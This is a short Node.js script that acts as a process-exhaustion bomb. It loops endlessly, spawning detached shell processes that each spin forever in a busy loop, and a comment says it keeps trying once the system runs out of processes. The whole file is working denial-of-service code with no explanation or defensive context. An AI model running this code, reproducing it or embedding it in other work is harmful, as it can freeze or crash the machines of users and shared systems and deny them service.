const { spawn } = require("child_process");
for (;;) {
  try {
    spawn("/bin/sh", ["-c", "while :; do :; done"], { detached: true, stdio: "ignore" });
  } catch (e) {
    // out of processes: keep trying
  }
}
